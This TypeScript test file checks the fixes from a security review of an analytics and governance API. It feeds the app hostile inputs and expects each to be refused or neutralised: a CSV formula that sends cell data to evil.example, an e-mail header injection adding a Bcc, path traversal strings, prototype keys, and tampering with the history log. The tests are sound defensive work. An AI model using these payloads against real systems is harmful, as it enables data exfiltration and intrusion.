// Findings of the security review (issue #13) through the API and the domain functions: each is now refused with a
// 4xx and nothing written, or detected.
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Workspace } from '../../src/workspace/workspace.ts';
import { recordChange, verifyHistory } from '../../src/history/history.ts';
import {
  checkAnchor,
  checkCheckpoints,
  historyHead,
  readHistoryKey,
  recordCheckpoint,
} from '../../src/history/anchor.ts';
import { assignAction, createMeeting, saveMember, sendEmailReminders, setSetting } from '../../src/governance/index.ts';
import { csvCell, safeCell, safeCellSql, safeFilename } from '../../src/exports/cells.ts';
import { storeFingerprint } from '../server/fingerprint.ts';
import { call, login, startTestServer, type Session, type TestServer } from '../server/helpers.ts';
import { tmpDir } from '../helpers/tmp.ts';

let srv: TestServer;
let coordinator: Session;
beforeAll(async () => {
  srv = await startTestServer();
  coordinator = await login(srv.app, 'coordinator');
});
afterAll(() => srv.close());

/** The request is refused with `status`, a readable sentence, and the store is as it was. */
async function refused(method: string, url: string, body: unknown, status: number, says: RegExp) {
  const before = await storeFingerprint(srv.ws);
  const r = await call(srv.app, coordinator, method, url, body);
  expect(r.statusCode, `${method} ${url}: ${r.body}`).toBe(status);
  expect(r.json().error).toMatch(says);
  expect(await storeFingerprint(srv.ws)).toEqual(before);
}

describe('400, never 500, for bad input', () => {
  it('impossible dates', async () => {
    await refused('GET', '/api/kpis?from=2024-02-30', undefined, 400, /2024-02-30 is not a real date/);
    await refused('GET', '/api/history?since=0000-00-00', undefined, 400, /0000-00-00 is not a real date/);
    await refused(
      'GET',
      '/api/backtest?train_until=2024-02-30&test_from=2024-03-01&test_until=2024-06-30',
      undefined,
      400,
      /2024-02-30 is not a real date/,
    );
  });

  it('governance settings: unknown and prototype keys, wrong values', async () => {
    for (const key of ['constructor', 'toString', 'hasOwnProperty', '__proto__'])
      await refused('PUT', `/api/governance/settings/${key}`, { value: true }, 400, /expected one of|not allowed/);
    await refused('PUT', '/api/governance/settings/approval.gri_config', { value: 5 }, 400, /expected true or false/);
    await refused(
      'PUT',
      '/api/governance/settings/reminders.days_before',
      { value: -100000 },
      400,
      /whole number of days from 0 to 365/,
    );
    await refused(
      'PUT',
      '/api/governance/settings/email.outbox',
      { value: '../../../../tmp/x' },
      400,
      /inside the workspace/,
    );
  });

  it('custom indicators: too many, too costly, a NUL in a name or a risky-list code', async () => {
    const custom = (n: number, expr = 'share(lines where inspected) > 50%') =>
      Array.from({ length: n }, (_, i) => ({ code: `CUS_X${i}`, name: `x${i}`, expr }));
    await refused(
      'POST',
      '/api/gri/compute',
      { config: { custom: custom(116) } },
      400,
      /116 custom indicators; at most 20/,
    );
    const distinct = Array.from({ length: 28 }, () => 'distinct(hs_code)').join(' + ') + ' > 3';
    await refused(
      'POST',
      '/api/gri/compute',
      { config: { custom: custom(1, distinct) } },
      400,
      /costs 140; .* at most 12/,
    );
    await refused(
      'POST',
      '/api/gri/compute',
      { config: { custom: [{ code: 'CUS_N', name: 'a\u0000b', expr: 'count(lines) > 3' }] } },
      400,
      /control characters are not allowed/,
    );
    await refused(
      'POST',
      '/api/gri/compute',
      { config: { riskyLists: { given: { origins: ['C\u0000N'] } } } },
      400,
      /control characters are not allowed/,
    );
  });
});

describe('exports and e-mail', () => {
  it('neutralises formulas in every cell (OWASP) and sanitises file names', () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    expect(csvCell(evil)).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    for (const s of ['+1', '-2+3', '@SUM(A1)', '\tx', '\rx']) expect(safeCell(s)).toBe(`'${s}`);
    expect(safeCell(-2)).toBe(-2);
    expect(safeCell('Alfa SA')).toBe('Alfa SA');
    expect(safeFilename('../../etc/passwd\r\nx.csv')).toBe('etc_passwd_x.csv');
  });

  it('the SQL twin of the neutralising rule (COPY exports) gives what safeCell gives', async () => {
    const cells = ['=1', '+1', '-2', '@A', '\tx', '\rx', '\nx', ' =1', "'=1", 'a=1', '', 'é', '€=', '1', 'Alfa SA'];
    const params = Object.fromEntries(cells.map((c, i) => [`c${i}`, c]));
    const values = cells.map((_, i) => `(${i + 1}, $c${i})`).join(', ');
    const rows = await srv.ws.all<{ i: number; v: string | null }>(
      `SELECT i, ${safeCellSql('x')} AS v FROM (VALUES (0, NULL), ${values}) t(i, x) ORDER BY i`,
      params,
    );
    expect(rows.map((r) => r.v)).toEqual([null, ...cells.map((c) => safeCell(c))]);
  });

  it('the selectivity CSV of the API writes an operator named like a formula as text', async () => {
    await srv.ws
      .run(`INSERT INTO operator_segments (operator_id, size_segment, total_value, lines, gri, risk_level, config_id, computed_at)
      VALUES ('=HYPERLINK("http://evil.example/?"&A1,"Click")', 'small', 1, 1, 0.5, 'high', 'general@v1', now())`);
    const r = await call(srv.app, coordinator, 'GET', '/api/exports/selectivity.csv');
    expect(r.statusCode).toBe(200);
    expect(r.body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",small,`);
    expect(r.headers['x-cip-history-head']).toMatch(/^\d+:[0-9a-f]{64}$/);
    await srv.ws.run(`DELETE FROM operator_segments WHERE operator_id LIKE '=HYPERLINK%'`);
  });

  it('refuses an address with a header in it; a stored one is skipped; headers are encoded; the outbox stays inside', async () => {
    const ws = await Workspace.open(tmpDir('cip-mail-'), { create: true });
    try {
      await expect(
        saveMember(ws, 'ana', {
          name: 'M',
          role: 'operational',
          unit: 'office:N1',
          email: 'm@x.org\r\nBcc: all@evil.example\r\nSubject: pwned',
        }),
      ).rejects.toThrow('e-mail address contains a line break or control character');
      await saveMember(ws, 'ana', { name: 'Good', role: 'operational', unit: 'office:N1', email: 'good@x.org' });
      await saveMember(ws, 'ana', { name: 'Old', role: 'operational', unit: 'office:N1', email: 'old@x.org' });
      // An address an older version stored with a header in it.
      await ws.run(
        "UPDATE gov_members SET email = 'm@x.org' || chr(13) || chr(10) || 'Bcc: all@evil.example' WHERE name = 'Old'",
      );
      await saveMember(ws, 'ana', { name: 'Head', role: 'head', unit: 'office:N1' });
      await createMeeting(ws, 'ana', { heldOn: '2025-01-10', chair: 'Head' });
      await assignAction(ws, 'ana', 'RMC-2025-01', {
        description: 'fix',
        ownerUnit: 'office:N1',
        dueDate: '2025-01-20',
      });
      await expect(setSetting(ws, 'ana', 'email.outbox', '../../../../tmp/x')).rejects.toThrow(/inside the workspace/);
      await setSetting(ws, 'ana', 'email.enabled', 'true');
      const r = await sendEmailReminders(ws, 'ana', '2025-01-25');
      expect(r.written).toHaveLength(1);
      expect(r.written[0].startsWith(join(ws.dir, 'outbox'))).toBe(true);
      const eml = readFileSync(r.written[0], 'utf8');
      expect(eml).toMatch(/^To: good@x\.org\r$/m);
      expect(eml).not.toMatch(/^Bcc:/im);
      expect(eml).toMatch(/^Subject: \[RMC\] Overdue: action /m);
    } finally {
      ws.close();
    }
  });
});

describe('history you can anchor', () => {
  async function seeded(): Promise<Workspace> {
    const ws = await Workspace.open(join(tmpDir('cip-anchor-'), 'ws'), { create: true });
    for (let i = 1; i <= 8; i++)
      await recordChange(ws, { actor: 'ana', action: 'x.set', entityType: 'x', after: { i } });
    return ws;
  }

  it('creates the workspace 0700 and its file 0600', async () => {
    const ws = await seeded();
    expect(statSync(ws.dir).mode & 0o777).toBe(0o700);
    expect(statSync(ws.dbPath).mode & 0o777).toBe(0o600);
    ws.close();
  });

  it('an anchor detects deleted last entries and a chain recomputed with the public scheme', async () => {
    const ws = await seeded();
    const anchor = await historyHead(ws);
    expect(anchor.seq).toBe(8);
    await ws.run('DELETE FROM history WHERE seq > 3');
    expect((await verifyHistory(ws)).ok).toBe(true); // the chain alone cannot see it
    expect(await checkAnchor(ws, anchor)).toEqual([
      {
        seq: 8,
        problem: 'the history ends at entry 3 but the anchor names entry 8: entries 4..8 were deleted',
      },
    ]);
    ws.close();
  });

  it('a checkpoint signed with a key outside the workspace survives only an untouched chain', async () => {
    const ws = await seeded();
    const keyFile = join(tmpDir('cip-key-'), 'history.key');
    writeFileSync(keyFile, 'a-secret-kept-elsewhere-32-bytes!!');
    expect(() => readHistoryKey(join(ws.dir, 'workspace.duckdb'), ws.dir)).toThrow(/outside the workspace/);
    const key = readHistoryKey(keyFile, ws.dir);
    await recordCheckpoint(ws, key, 'ana');
    expect(await checkCheckpoints(ws, key)).toEqual([]);
    // Rewriting entry 2 and recomputing every hash after it passes the chain check, not the checkpoint.
    const { entryHash } = await import('../../src/history/history.ts');
    const rows = await ws.all<Record<string, unknown>>(
      `SELECT seq, strftime(changed_at, '%Y-%m-%dT%H:%M:%S.%gZ') AS changed_at, actor, action, entity_type, entity_id, org_unit,
              before_json, after_json, prev_hash, hash FROM history ORDER BY seq`,
    );
    let prev = '';
    for (const r of rows) {
      if (r.seq === 2) r.actor = 'mallory';
      r.prev_hash = prev;
      const { hash: _h, ...rest } = r;
      r.hash = entryHash(rest as never);
      prev = r.hash as string;
      await ws.run('UPDATE history SET actor = $a, prev_hash = $p, hash = $h WHERE seq = $s', {
        a: r.actor,
        p: r.prev_hash,
        h: r.hash,
        s: r.seq,
      });
    }
    expect((await verifyHistory(ws)).ok).toBe(true);
    expect(await checkCheckpoints(ws, key)).toEqual([
      { seq: 8, problem: 'checkpoint 9: does not match the anchor: the chain up to this entry was rewritten' },
    ]);
    ws.close();
  });

  it('a role changed in the database file without the application is reported by verify', async () => {
    const r0 = await call(srv.app, await login(srv.app, 'auditor'), 'GET', '/api/history/verify');
    expect(r0.json().ok).toBe(true);
    await srv.ws.run("UPDATE server_users SET roles = 'admin' WHERE username = 'operational'");
    const r = (await call(srv.app, await login(srv.app, 'auditor'), 'GET', '/api/history/verify')).json();
    expect(r.ok).toBe(false);
    expect(r.problems).toContainEqual({
      seq: expect.any(Number),
      problem: "user 'operational' changed without a history entry: roles admin (recorded operational)",
    });
    await srv.ws.run("UPDATE server_users SET roles = 'operational' WHERE username = 'operational'");
  });
});

it('leaves no stray file in the outbox directory of the test workspace', () => {
  expect(existsSync(join(srv.ws.dir, 'outbox')) ? readdirSync(join(srv.ws.dir, 'outbox')) : []).toEqual([]);
});
